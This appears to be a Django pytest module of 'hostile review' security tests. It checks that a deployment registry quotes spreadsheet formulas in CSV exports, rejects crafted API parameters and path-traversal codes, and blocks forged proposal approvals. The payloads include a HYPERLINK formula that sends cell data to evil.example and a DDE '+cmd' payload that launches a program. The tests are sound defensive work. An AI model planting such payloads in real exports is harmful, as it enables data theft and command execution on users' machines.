"""Hostile review 53: attacks that held (these pass)."""

import pytest
from django.test import Client
from django.urls import reverse

from contrechamp.registry import services as s
from contrechamp.registry.models import Deployment, Proposal
from contrechamp.registry.proposals import deployment_propose
from tests.factories import deployment_data

pytestmark = pytest.mark.django_db


def test_formulas_in_every_text_column_of_the_csv_are_quoted(reviewer):
    s.deployment_create(
        data=deployment_data(
            title='=HYPERLINK("https://evil.example/?"&A1)',
            vendors=["@SUM(1+1)"],
            fundings=[{"funder": "+cmd|' /C calc'!A0", "amount_eur": "10", "programme": ""}],
        ),
        author=reviewer,
    )
    body = b"".join(Client().get(reverse("export-csv")).streaming_content).decode()
    assert "'=HYPERLINK" in body and "'@SUM" in body and "'+cmd" in body


@pytest.mark.parametrize(
    "params",
    [
        {"limit": "100000"},
        {"limit": "0"},
        {"cursor": "%%%"},
        {"cursor": "OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5"},
        {"year": "²⁰²⁴"},
        {"status": "<script>"},
    ],
)
def test_the_api_refuses_crafted_parameters_with_its_envelope(params):
    response = Client().get("/api/v1/deployments", params)
    assert response.status_code in (200, 400)
    assert response["Content-Type"].startswith("application/json")
    if response.status_code == 400:
        assert response.json()["error"]["code"] in ("invalid_parameter", "invalid_cursor")


@pytest.mark.parametrize("code", ["..%2F..", "2a", "99999", "1" * 300, "٣١٥٥٥"])
def test_crafted_place_codes_answer_404_or_a_redirect(code):
    for name in ("commune-detail", "department-detail", "commune-feed"):
        response = Client().get(reverse(name, args=[code]))
        assert response.status_code in (301, 302, 404)


def test_a_contributor_cannot_accept_a_proposal_by_forging_the_review_parameter(
    contributor_client, newcomer
):
    d = Deployment.objects.published().first()
    data = s.deployment_snapshot(d)
    data["status"] = "abandoned"
    proposal = deployment_propose(deployment=d, data=data, base_version=d.version, author=newcomer)
    response = contributor_client.get(
        reverse("deployment-edit", args=[d.slug]) + f"?proposal={proposal.id}"
    )
    assert response.status_code == 403
    assert Proposal.objects.get(id=proposal.id).state == "pending"


def test_the_watch_queue_and_its_actions_are_closed_to_visitors_and_contributors(
    contributor_client,
):
    visitor = Client()
    assert visitor.get(reverse("watch-queue")).status_code in (302, 403)
    assert contributor_client.get(reverse("watch-queue")).status_code == 403
    assert contributor_client.get(reverse("watch-queue") + "?page=-1").status_code == 403
